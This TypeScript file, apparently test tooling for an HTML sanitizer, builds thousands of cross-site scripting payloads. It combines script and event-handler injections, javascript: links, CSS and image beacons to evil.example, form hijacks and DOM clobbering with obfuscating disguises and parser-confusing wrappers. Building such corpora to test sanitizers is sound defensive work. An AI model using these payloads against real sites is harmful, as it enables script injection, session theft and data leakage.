// Hostile HTML in our own words, made by combining: what runs or asks (an act), how it is dressed (a disguise), and what is
// around it (a surrounding, which makes the parser see something else than a reader of the source).
import { NEWER_ACTS } from './newer-acts';
import type { Payload } from './payloads';

const RUN = 'top.hit=1';
const EVIL = 'https://evil.example';
/** Base64 of a script that runs `hit=1`. */
const SCRIPT = btoa(`<script>${RUN}</script>`);
const PICTURE = btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`);

/** Each alone would run something, ask the network, or take something over. By kind. */
const ACTS: Record<string, readonly string[]> = {
  script: [
    `<script>${RUN}</script>`,
    `<script src="${EVIL}/a.js"></script>`,
    `<script type=module>import "${EVIL}/m.js"</script>`,
    `<script type=importmap>{"imports":{"/chunks/":"${EVIL}/"}}</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/p"]}]}</script>`,
    `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
    `<script nonce=abc integrity="" async src="${EVIL}/n.js"></script><noscript><img src="${EVIL}/n.png"></noscript>`,
    `<svg><script xlink:href="${EVIL}/x.js"></script></svg><math><script>${RUN}</script></math>`,
  ],
  handler: [
    `<img src=x onerror=${RUN}>`,
    `<img/src/onerror=${RUN}//>`,
    `<body onpageshow=${RUN}>`,
    `<details open ontoggle=${RUN}><summary>x</summary></details>`,
    `<input autofocus onfocus=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s /></svg>`,
    `<p tabindex=0 onfocusin=${RUN} onbeforematch=${RUN} hidden=until-found>x</p>`,
    `<button popovertarget=q>x</button><div popover id=q onbeforetoggle=${RUN}>y</div>`,
    `<p style="animation:spin 1s" onanimationstart=${RUN} oncontentvisibilityautostatechange=${RUN}>x</p>`,
    `<select><selectedcontent onclick=${RUN}></selectedcontent></select>`,
    `<marquee onstart=${RUN} onfinish=${RUN}>x</marquee>`,
    `<dialog open onclose=${RUN} oncancel=${RUN}><form method=dialog><button autofocus onfocus=${RUN}>x</button></form></dialog>`,
    `<svg onload=${RUN}><discard onbegin=${RUN} /><set attributeName=onmouseover to=${RUN} /></svg>`,
    `<audio controls src="data:audio/wav;base64," onerror=${RUN} onloadstart=${RUN}></audio>`,
    `<p onscrollend=${RUN} onsecuritypolicyviolation=${RUN} ontransitionrun=${RUN} onpointerrawupdate=${RUN}>x</p>`,
  ],
  link: [
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="java&Tab;script&colon;${RUN}">x</a>`,
    `<a href="\u0001 jAvAsCrIpT:${RUN}">x</a>`,
    `<a href="data:text/html;base64,${SCRIPT}">x</a>`,
    `<a href="view-source:${EVIL}">x</a><a href="filesystem:${EVIL}/a">y</a><a href="intent:${EVIL}">z</a>`,
    `<a href="chrome://settings">x</a><a href="chrome-extension://x/options.html">y</a><a href="file:///etc/passwd">z</a>`,
    `<a href="/x" ping="${EVIL}/ping" attributionsrc="${EVIL}/a">x</a>`,
    `<map name=m><area href="javascript:${RUN}" shape=default></map><img usemap=#m alt=x>`,
    `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
    `<svg><a><set attributeName=xlink:href to="javascript:${RUN}" /><text>x</text></a></svg>`,
    `<math href="javascript:${RUN}"><mtext>x</mtext></math>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;${RUN}">x</a>`,
    `<a href="java\nscript:${RUN}">x</a><a href="javascript&#0;:${RUN}">y</a><a href="\u00a0javascript:${RUN}">z</a>`,
    `<a href="vbscript:${RUN}">x</a><a href="blob:null/1">y</a><a href="data:image/svg+xml;base64,${PICTURE}">z</a>`,
    `<a href="https://evil.example@quay.example:x/">x</a><a href="https:javascript:${RUN}">y</a><a href="//evil.example">z</a>`,
    `<a href="/x" target=_self rel=opener download=x.html referrerpolicy=unsafe-url hreflang="${EVIL}">x</a>`,
    `<svg xml:base="javascript:${RUN}//"><a href="#x"><text>x</text></a></svg><p xml:base="${EVIL}"><a href="#y">y</a></p>`,
    `<svg><a xlink:href="java&#x09;script:${RUN}"><circle r=9 /></a></svg>`,
    `<math><maction actiontype=statusline xlink:href="javascript:${RUN}"><mi href="javascript:${RUN}">x</mi></maction></math>`,
    `<blockquote cite="javascript:${RUN}">x</blockquote><q cite="${EVIL}/q">y</q><del cite="data:text/html,x">z</del>`,
  ],
  picture: [
    `<img src="${EVIL}/pixel.gif" width=1 height=1>`,
    `<img src="${EVIL}/a.png" fetchpriority=high loading=eager>`,
    `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x">`,
    `<picture><source srcset="${EVIL}/s.webp" media=all><img alt=x></picture>`,
    `<image src="${EVIL}/i.png">`,
    `<svg><image href="${EVIL}/i.png" /><feImage href="${EVIL}/f.png" /></svg>`,
    `<input type=image src="${EVIL}/i.png" alt=x>`,
    `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4" autoplay muted></video>`,
    `<audio src="${EVIL}/a.mp3" autoplay></audio><track src="${EVIL}/t.vtt">`,
    `<img src="data:image/svg+xml;base64,${PICTURE}">`,
    `<x-media src="javascript:${RUN}" title="</a><img src=x onerror=${RUN}>"></x-media><svg><video src="${EVIL}/v"><style><a id="</style><img src=x onerror=${RUN}>"></video></svg>`,
    `<img src="DATA:IMAGE/GIF;BASE64,R0lGODlhAQABAAAAACw=" onerror=${RUN}>`,
    `<img data-src="javascript:${RUN}" data-original="data:text/html;base64,${SCRIPT}">`,
    `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png">x</table>`,
    `<link rel=preload as=image imagesrcset="${EVIL}/1.png 1x" imagesizes=1px><img sizes="(min-width:1px) 1px" srcset="${EVIL}/w.png 1w">`,
    `<img src="//evil.example/p.gif" referrerpolicy=unsafe-url crossorigin=use-credentials decoding=sync>`,
    `<img src="data:image/png;base64,x" data-src="//evil.example/l.png" lowsrc="${EVIL}/low" dynsrc="${EVIL}/dyn" longdesc="${EVIL}/d">`,
    `<video controls><source src="${EVIL}/v.webm"><track default kind=captions src="${EVIL}/c.vtt"></video>`,
    `<svg><filter id=f><feImage xlink:href="${EVIL}/fe.png" /></filter><image width=1 height=1 xlink:href="${EVIL}/xl.png" /></svg>`,
    `<svg><use href="data:image/svg+xml;base64,${PICTURE}#x" /><use xlink:href="${EVIL}/u.svg#x" /></svg>`,
  ],
  style: [
    `<style>@view-transition{navigation:auto}::view-transition-old(root){background:url(${EVIL}/vt)}</style><p style="view-transition-name:x">x</p>`,
    `<style>body:has(input[value^=a]){background:image-set("${EVIL}/has" 1x)}p{background:attr(title type(<url>));content:attr(data-x)}</style><p title="${EVIL}/attr">x</p>`,
    `<style>@scope (p) to (a){:scope{background:url(${EVIL}/sc)}}@starting-style{p{background:url(${EVIL}/ss)}}@font-palette-values --p{override-colors:0 red}@position-try --t{inset:0}</style>`,
    `<style>@import "${EVIL}/a.css";</style>`,
    `<style>input[value^=a]{background:url(${EVIL}/?a)}:host{background:url(${EVIL}/h)}</style><input value=abc>`,
    `<style>@font-face{font-family:f;src:url(${EVIL}/f);unicode-range:U+41}p{font-family:f}</style><p>A</p>`,
    `<link rel=stylesheet href="${EVIL}/l.css"><link rel=preload as=image href="${EVIL}/p.png">`,
    `<link rel=dns-prefetch href="//evil.example"><link rel=modulepreload href="${EVIL}/m.js">`,
    `<p style="background:url(${EVIL}/b);position:fixed;inset:0;z-index:9999">x</p>`,
    `<p style="list-style:url('${EVIL}/l');cursor:url(${EVIL}/c),auto;content:url(${EVIL}/d)">x</p>`,
    `<p style="--a:url(${EVIL}/v);background:var(--a)">x</p>`,
    `<svg><rect fill="url(${EVIL}/f.svg#x)" filter="url(${EVIL}/g.svg#x)" mask="url(${EVIL}/m.svg#x)" /></svg>`,
    `<svg><style>*{background:url(${EVIL}/s)}</style><use href="${EVIL}/u.svg#a" /></svg>`,
    `<p style="background-image:image-set('${EVIL}/i1' 1x,url(${EVIL}/i2) 2x)">x</p><p style="background:-webkit-cross-fade(url(${EVIL}/f1),url(${EVIL}/f2),50%)">y</p>`,
    `<p style="mask:url(${EVIL}/m);-webkit-mask-image:url(${EVIL}/wm);clip-path:url(${EVIL}/c.svg#x);filter:url(${EVIL}/f.svg#x)">x</p>`,
    `<p style="border-image:url(${EVIL}/bi) 1;shape-outside:url(${EVIL}/so);offset-path:url(${EVIL}/op);color:red">x</p>`,
    `<style>@layer a{@import url("${EVIL}/li.css") layer(b) supports(display:grid)}@namespace url(${EVIL});@charset "x";</style>`,
    `<style>a[href^="https://quay"]{--x:url(${EVIL}/h)}@container (width>1px){p{background:url(${EVIL}/cq)}}@property --y{syntax:"<url>";inherits:true;initial-value:url(${EVIL}/py)}</style>`,
    `<style>@keyframes spin{from{background:url(${EVIL}/kf)}}@page{background:url(${EVIL}/pg)}@counter-style c{symbols:url(${EVIL}/cs)}</style><p style="animation:spin 9s" onanimationstart=${RUN}>x</p>`,
    `<p style="b\\61 ckground:u\\72l(${EVIL}/esc);width:expression(${RUN});behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#y)">x</p>`,
    `<link rel="stylesheet alternate" title=x href="${EVIL}/alt.css"><link rel=icon href="${EVIL}/i.ico"><link rel=manifest href="${EVIL}/m.json">`,
    `<link rel=prefetch href="${EVIL}/pf"><link rel=preconnect href="${EVIL}"><link rel=prerender href="${EVIL}/pr"><link rel=import href="${EVIL}/im"><link rel=expect href=#x blocking=render>`,
    `<svg><style>@import url(${EVIL}/svg.css);</style><text fill="url(${EVIL}/p.svg#p)" marker-start="url(${EVIL}/k.svg#k)" style="cursor:url(${EVIL}/cur)">x</text></svg>`,
  ],
  form: [
    `<form action="${EVIL}/steal"><input name=q value=x><button>go</button></form>`,
    `<button form=f formaction="javascript:${RUN}">x</button><form id=f></form>`,
    `<form action="javascript:${RUN}"><input type=submit></form>`,
    `<isindex action="javascript:${RUN}" type=image>`,
    `<button commandfor=d command=show-modal>x</button><dialog id=d>y</dialog>`,
    `<input type=password autocomplete=current-password name=p><input type=file>`,
    `<form id=g method=post action="javascript:${RUN}"></form><input form=g type=image src="${EVIL}/f.png" formaction="javascript:${RUN}"><input form=g name=action value=x>`,
    `<button popovertarget=pp popovertargetaction=show>x</button><div id=pp popover=manual><iframe src="javascript:${RUN}"></iframe></div>`,
    `<form target=_top><input name=x list=l onchange=${RUN}><datalist id=l><option value=y></datalist><keygen name=k challenge=x></form>`,
    `<textarea autofocus onfocus=${RUN}></textarea><select onfocus=${RUN} autofocus multiple><option></select><output onfocus=${RUN} tabindex=0></output>`,
  ],
  head: [
    `<link rel=compression-dictionary href="${EVIL}/cd"><link rel=preload as=fetch href="${EVIL}/pl"><link rel=modulepreload as=script href="${EVIL}/mp"><meta http-equiv=delegate-ch content="x ${EVIL}"><meta http-equiv=accept-ch content=dpr>`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta http-equiv=refresh content="0;url=${EVIL}/r">`,
    `<meta http-equiv=content-security-policy content="script-src *"><meta name=referrer content=unsafe-url>`,
    `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `<base href="${EVIL}/"><a href="x">x</a><img src="y">`,
    `<base target=_top><a href="/x">x</a>`,
    `<html manifest="${EVIL}/m"><head profile="${EVIL}/p"><body background="${EVIL}/b" onload=${RUN}>x`,
    `<meta http-equiv=set-cookie content="a=b"><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=origin-trial content=x><meta http-equiv=default-style content=x>`,
    `<meta http-equiv=refresh content="0;url=data:text/html;base64,${SCRIPT}"><meta name=viewport content="width=1"><meta name=color-scheme content=dark>`,
    `<base href="javascript:/${RUN}/"><a href="#">x</a><a href="">y</a><title>z</title>`,
  ],
  frame: [
    `<iframe loading=eager src="about:blank" srcdoc="<meta http-equiv=refresh content='0;url=${EVIL}/sd'>"></iframe><fencedframe config=x src="${EVIL}/ff"></fencedframe><controlledframe src="${EVIL}/cf"></controlledframe><webview src="${EVIL}/wv"></webview>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe src="data:text/html;base64,${SCRIPT}"></iframe>`,
    `<object data="data:text/html;base64,${SCRIPT}" type=text/html></object>`,
    `<embed src="${EVIL}/e.swf" type="application/x-shockwave-flash">`,
    `<applet code="${EVIL}/A.class"></applet><portal src="${EVIL}"></portal><fencedframe></fencedframe>`,
    `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
    `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;" sandbox="allow-scripts allow-same-origin" allow="*" credentialless csp="x"></iframe>`,
    `<object data="javascript:${RUN}"><param name=movie value="${EVIL}/o.swf"><embed code="${EVIL}" src="javascript:${RUN}"></object>`,
    `<object classid="clsid:x" codebase="${EVIL}" data="${EVIL}/d" usemap=#m><bgsound src="${EVIL}/b"><layer src="${EVIL}/l"></layer></object>`,
  ],
  naming: [
    `<form id=body name=cookie><input name=parentNode><input name=attributes><input id=children></form>`,
    `<img name=getElementById><img id=querySelector name=querySelectorAll><form name=createElement></form>`,
    `<a id=browser href="x"></a><a id=chrome></a><a id=chrome name=runtime href="javascript:${RUN}"></a>`,
    `<form><input name=nodeName><input name=firstChild><input name=removeChild><output name=namespaceURI></output></form>`,
    `<p id=app class="reader-body body popover" slot=body part=x name=y data-anchor="' ]" data-language="x y">x</p>`,
    `<iframe name=self srcdoc="<a id=top></a>"></iframe><object id=document></object>`,
    `<a id=default name=then href="x"></a><a id=__proto__></a><img name=constructor><input id=toString name=hasOwnProperty>`,
    `<form id=adoptedStyleSheets><button name=content></button><button name=ownerDocument></button><button name=nextSibling></button></form>`,
  ],
  component: [
    `<template shadowrootmode=open shadowrootadoptedstylesheets=a shadowrootcustomelementregistry><img src="${EVIL}/so" onerror=${RUN}></template>`,
    `<select><button><selectedcontent></selectedcontent></button><option><img src="${EVIL}/opt" onerror=${RUN}><script>${RUN}</script></option></select>`,
    `<div popover=auto id=pa ontoggle=${RUN} onbeforetoggle=${RUN}>x</div><button popovertarget=pa interestfor=pa oninterest=${RUN}>y</button><button command=--x commandfor=pa oncommand=${RUN}>z</button>`,
    `<x-evil onclick=${RUN}><slot></slot></x-evil>`,
    `<p is=x-evil onclick=${RUN}>x</p><button is="x-a" type=submit>y</button>`,
    `<div><template shadowrootmode=open><style>:host{background:url(${EVIL}/t)}</style><img src=x onerror=${RUN}></template></div>`,
    `<template><script>${RUN}</script><img src="${EVIL}/t.png" onerror=${RUN}></template>`,
    `<slot name=a onslotchange=${RUN}></slot><p slot=a>x</p>`,
    `<div><template shadowrootmode=open shadowrootclonable shadowrootserializable shadowrootdelegatesfocus><slot></slot><link rel=stylesheet href="${EVIL}/sr.css"></template><p>x</p></div>`,
    `<svg><foreignObject><div><template shadowroot=open><script>${RUN}</script></template></div></foreignObject></svg>`,
    `<font-face onload=${RUN}></font-face><x-y is="x-z" exportparts=a part=b slot=c itemscope itemid="${EVIL}" itemprop=d></x-y>`,
  ],
  instruction: [
    `<?xml-stylesheet href="${EVIL}/x.xsl" type="text/xsl"?><p>x</p>`,
    `<?php ?><img src=x onerror=${RUN}>`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<!--[if true]><img src=x onerror=${RUN}><![endif]-->`,
    `<!doctype html [<!entity e "<img src=x onerror=${RUN}>">]>&e;`,
    `<%<img src=x onerror=${RUN}>%>`,
    `<svg><![CDATA[</svg><img src=x onerror=${RUN}>]]></svg><math><![CDATA[><img src=x onerror=${RUN}>]]></math>`,
    `<?import namespace=t implementation="${EVIL}"?><!ELEMENT x ANY><!-- -- --><!--><img src=x onerror=${RUN}>-->`,
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]--><comment><img src="</comment><img src=x onerror=${RUN}>">`,
  ],
};

const tags = (html: string, change: (tag: string) => string) => html.replace(/<[^>]*>/g, change);

/** How an act may be written so that it is not seen for what it is. */
const DISGUISES: Record<string, (html: string) => string> = {
  plain: (html) => html,
  'mixed case': (html) =>
    tags(html, (tag) =>
      tag.replace(/^<\/?[a-z-]+/i, (name) => [...name].map((c, n) => (n % 2 ? c.toUpperCase() : c)).join('')),
    ),
  'null bytes': (html) => html.replace(/script|onerror/gi, (word) => `${word.slice(0, 3)}\0${word.slice(3)}`),
  'odd spaces': (html) => tags(html, (tag) => tag.replace(/ /, '\f').replace(/ /g, '\n/\t')),
  'long attribute': (html) =>
    tags(html, (tag) => tag.replace(/^(<[a-z][\w-]*)/i, `$1 data-x="${'y'.repeat(3_000)}"`)),
  'said twice': (html) =>
    tags(html, (tag) => tag.replace(/^(<[a-z][\w-]*)/i, '$1 title=a title=b href=c id=d')),
  'cut short': (html) => html.slice(0, -1),
  entities: (html) => html.replace(/javascript/gi, 'jav&#x61;script').replace(/=1/g, '&equals;1'),
};

/** What is put around an act, so that the parser's state is another one than it seems. */
const SURROUNDINGS: Record<string, (html: string) => string> = {
  nothing: (html) => html,
  'svg title': (html) => `<svg><title>${html}</title></svg>`,
  'svg foreignObject': (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  'svg style': (html) => `<svg><style><a title="</style>${html.replaceAll('"', '&quot;')}">`,
  'math text': (html) =>
    `<math><mtext><table><mglyph><style><!--</style><p title="-->${html.replaceAll('"', "'")}">`,
  'math annotation': (html) => `<math><annotation-xml encoding="text/html">${html}</annotation-xml></math>`,
  'math in form': (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
  noscript: (html) => `<noscript><p title="</noscript>${html.replaceAll('"', "'")}"></noscript>`,
  textarea: (html) => `<textarea><p title="</textarea>${html.replaceAll('"', "'")}">`,
  'raw text': (html) => `<xmp><p title="</xmp>${html.replaceAll('"', "'")}"></xmp><noembed>${html}</noembed>`,
  comment: (html) => `<!-- --!>${html}<!--><p title="-->${html.replaceAll('"', "'")}">`,
  table: (html) => `<table><caption><tr>${html}<td><a><table>${html}</table></a></table>`,
  select: (html) => `<select><option>${html}</option><math><mi>${html}</mi></math></select>`,
  template: (html) =>
    `<template><template>${html}</template></template><div><template shadowrootmode=closed>${html}`,
  formatting: (html) => `<b><i><a href="/1"><p>${html}</b><a href="/2">${html}</i></p></a>`,
  plaintext: (html) => `<p>x</p><svg><plaintext>${html}`,
  attribute: (html) => `<p title='${html.replaceAll("'", '')}' lang="${html.replaceAll('"', '')}">x</p>`,
  escaped: (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
};

/** Those of the newer acts, which are what the others are made of: without `all`, they stand as they are. */
const FEW = new Set(['nothing', 'svg foreignObject', 'math annotation', 'table', 'template']);

/**
 * Every act in every disguise, and every act in every surrounding; with `all`, in all combinations of both (some
 * thousands, for the measure of speed).
 */
export function ownPayloads(all = false): Payload[] {
  const payloads: Payload[] = [];
  for (const [kind, acts] of Object.entries({ ...ACTS, ...NEWER_ACTS })) {
    acts.forEach((act, n) => {
      for (const [disguise, disguised] of Object.entries(DISGUISES)) {
        for (const [surrounding, around] of Object.entries(SURROUNDINGS)) {
          if (!all && disguise !== 'plain' && surrounding !== 'nothing') continue;
          if (!all && kind in NEWER_ACTS && !(disguise === 'plain' && FEW.has(surrounding))) continue;
          payloads.push({
            name: `${kind} ${n + 1}, ${disguise}, in ${surrounding}`,
            payload: around(disguised(act)),
          });
        }
      }
    });
  }
  return payloads;
}
